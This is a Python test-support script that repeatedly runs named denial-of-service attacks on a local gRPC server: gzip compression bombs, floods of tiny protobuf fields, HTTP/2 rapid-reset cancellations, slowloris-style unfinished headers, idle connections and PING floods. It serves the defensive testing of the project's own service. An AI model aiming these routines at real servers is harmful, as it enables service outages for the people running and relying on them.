"""Attacks on a callers' port, one after the other until standard input closes: `grpc_attacks NAME PORT`."""

import contextlib
import socket
import sys
import threading
import time
from collections.abc import Callable, Sequence

import grpc

from protos.forwardplane.v1 import generate_pb2 as pb
from tests.support.http2_frames import HEADERS, PING, PREFACE, SETTINGS, frame, opened

GENERATE = "/forwardplane.v1.GenerationService/Generate"
GENERATE_ONCE = "/forwardplane.v1.GenerationService/GenerateOnce"
OPTIONS = [("grpc.use_local_subchannel_pool", 1), ("grpc.enable_http_proxy", 0)]
UNFINISHED_FRAME = PREFACE + frame(SETTINGS) + frame(HEADERS, b"\x82" * 50, stream=1)[:12]
"""What a connection sends that stops within its headers."""
CONNECTIONS = 100


def channel(port: int, **options: object) -> grpc.Channel:
    return grpc.insecure_channel(f"127.0.0.1:{port}", options=OPTIONS, **options)


def answered(channel: grpc.Channel, body: bytes) -> None:
    with contextlib.suppress(grpc.RpcError):
        channel.unary_unary(GENERATE_ONCE)(body, timeout=20)


def compressed_bombs(port: int) -> None:
    """64 MiB of zeros as 64 KiB."""
    with channel(port, compression=grpc.Compression.Gzip) as bombs:
        answered(bombs, bytes(64 << 20))


def small_fields(port: int) -> None:
    """Two million empty messages in 4 MiB."""
    body = b"\x0a\x00" * ((2 << 20) - 32)
    with channel(port) as calls:
        for _ in range(4):
            answered(calls, body)


def rapid_resets(port: int) -> None:
    """Calls that are cancelled as soon as they were sent."""
    request = pb.GenerateRequest(text="abc" * 20).SerializeToString()
    with channel(port) as calls:
        for _ in range(500):
            calls.unary_stream(GENERATE)(request, timeout=20).cancel()


def slow_frames(port: int) -> None:
    """Connections that never finish their headers, a byte now and then."""
    held(port, UNFINISHED_FRAME)


def half_open(port: int) -> None:
    """Connections that never say a word."""
    held(port, b"")


def held(port: int, begun: bytes) -> None:
    with contextlib.ExitStack() as stack:
        connections = [stack.enter_context(opened(port, sends=begun)) for _ in range(CONNECTIONS)]
        for _ in range(10):
            time.sleep(0.1)
            drip(connections if begun else ())


def drip(connections: Sequence[socket.socket]) -> None:
    """One byte more into each; some are closed by now."""
    for connection in connections:
        with contextlib.suppress(OSError):
            connection.send(b"\0")


def pings(port: int) -> None:
    """Pings until the connection is closed, then another one."""
    with opened(port) as connection, contextlib.suppress(OSError):
        for number in range(200):
            connection.send(frame(PING, number.to_bytes(8, "big")))
        connection.settimeout(0.05)
        while connection.recv(1 << 16):
            pass


ATTACKS: dict[str, Callable[[int], None]] = {
    attack.__name__: attack for attack in (compressed_bombs, small_fields, rapid_resets, slow_frames, half_open, pings)
}


def main(name: str, port: int) -> None:
    is_over = threading.Event()

    def wait() -> None:
        sys.stdin.read()
        is_over.set()

    threading.Thread(target=wait, daemon=True).start()
    while not is_over.is_set():
        with contextlib.suppress(socket.error):
            ATTACKS[name](port)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
